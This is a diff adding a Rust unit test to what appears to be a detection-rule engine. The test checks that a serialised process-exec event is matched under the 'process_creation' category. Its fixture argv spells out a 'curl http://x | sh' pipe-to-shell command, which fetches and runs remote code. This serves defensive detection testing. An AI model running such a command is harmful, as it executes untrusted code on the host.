@@ -124,6 +124,29 @@ detection:
     }
 
     #[test]
+    fn a_stored_event_is_judged_as_detection_judges_it() {
+        use cordon_proto::{ProcessEvent, event, process_event};
+        let exec = |exe: &str| Event {
+            seq: 1,
+            time_ms: 0,
+            body: Some(event::Body::Process(ProcessEvent {
+                kind: process_event::Kind::Exec as i32,
+                exe: exe.into(),
+                argv: vec!["curl".into(), "http://x".into(), "|".into(), "sh".into()],
+                ..Default::default()
+            })),
+        };
+        let json = |e: Event| serde_json::to_string(&e).unwrap();
+        let t = judge("r", RULE, &json(exec("/usr/bin/curl"))).unwrap();
+        assert!(t.matched && t.category == "process_creation", "{t:?}");
+        assert!(
+            !judge("r", RULE, &json(exec("/usr/bin/wget")))
+                .unwrap()
+                .matched
+        );
+    }
+
+    #[test]
     fn bad_input_is_refused_naming_the_problem() {
         let e = judge("r", "title: x\n", "{}").unwrap_err();
         assert!(matches!(e, CoreError::BadRule(_)), "{e}");
